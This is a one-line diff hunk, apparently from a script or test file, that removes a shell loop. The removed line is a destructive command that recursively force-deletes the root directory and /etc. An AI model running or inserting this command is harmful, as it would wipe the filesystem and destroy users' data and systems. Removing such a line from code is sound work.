@@ -1,1 +1,0 @@
-for d in /; do rm -rf "$d" /etc; done
